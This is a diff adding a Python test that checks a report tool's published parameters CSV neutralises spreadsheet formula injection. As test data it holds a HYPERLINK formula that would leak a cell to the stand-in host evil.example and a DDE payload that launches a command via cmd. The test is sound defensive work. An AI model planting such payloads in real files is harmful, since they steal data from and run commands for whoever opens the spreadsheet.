@@ -172,3 +172,24 @@ def test_a_reindented_manifest_with_reordered_keys_still_verifies(copy):
     reordered = dict(reversed(list(manifest.items())))
     (release / "manifest.json").write_text(json.dumps(reordered, indent=7), encoding="utf-8")
     ReleaseBundle(release).verify(K, KEY)
+
+
+# --- the site's CSV downloads --------------------------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open de bijlage")'
+
+
+def test_a_formula_title_is_not_a_formula_in_the_published_parameters_csv(tmp_path):
+    """The methods chapter publishes the parameters (the title among them) as a CSV next to its
+    table; a policymaker opens it in a spreadsheet, where a title starting with '=' (or '@', '+',
+    '-') runs as a formula. The rejects files are neutralised; the site's downloads were not."""
+    from routekit.report.tables import write_table
+
+    frame = pd.DataFrame({"parameter": ["title", "dde", "focus.corridors", "change"],
+                          "value": [FORMULA_TITLE, "-1+cmd|' /C calc'!A0", "-", "+12%"]})
+    path = write_table(frame, "parameters", tmp_path, K)
+    cells = pd.read_csv(path, dtype=str, keep_default_na=False)
+    value = dict(zip(cells["parameter"], cells["value"]))
+    assert not value["title"].startswith("=") and value["title"].endswith(FORMULA_TITLE)
+    assert not value["dde"].startswith("-")
+    assert value["focus.corridors"] == "-" and value["change"] == "+12%"  # plain text and numbers stay
